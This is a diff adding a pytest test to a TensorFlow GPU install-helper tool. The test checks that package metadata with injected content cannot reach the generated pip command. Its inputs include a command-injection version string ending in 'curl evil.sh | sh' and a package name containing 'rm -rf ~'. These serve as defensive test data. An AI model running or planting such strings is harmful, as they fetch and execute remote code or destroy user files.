@@ -153,3 +153,20 @@ def test_elsewhere_than_linux_x86_64_the_plain_wheel(monkeypatch: pytest.MonkeyP
     monkeypatch.setattr(fixes, "and_cuda_platform", lambda: False)
     fix = fixes.gpu_install(facts_with(), "2.18.0")
     assert fix.startswith(f"{PIP} install 'tensorflow==2.18.0'") and "Linux x86_64 only" in fix
+
+
+def test_a_version_from_hostile_metadata_never_reaches_the_command_line() -> None:
+    """A distribution's METADATA is the environment's to write: a folded Version header gave importlib a
+    version with a newline and a command after it, which ended the fix's comment and made a line of its
+    own. Only versions and names of plain characters pass; anything else is said as unreadable."""
+    from tfgpu_tui.env.facts import readable_packages
+
+    packages = readable_packages(
+        {"tensorflow": "2.18.0", "nvidia-cudnn-cu12": "8.9\ncurl evil.sh | sh", "x; rm -rf ~": "1.0", "ok": 3}
+    )
+    assert packages == {"tensorflow": "2.18.0", "nvidia-cudnn-cu12": "unreadable", "ok": "unreadable"}
+    assert readable_packages(["not", "a", "dict"]) == {}
+    facts, _ = load_recording(FIXTURES / "all_good.json")
+    facts = dataclasses.replace(facts, interpreter=dataclasses.replace(facts.interpreter, packages=packages))
+    fix = fixes.gpu_install(facts, "2.18.0")
+    assert "\n" not in fix and "curl" not in fix and "nvidia-cudnn-cu12 unreadable (pinned ==9.3.0.75)" in fix
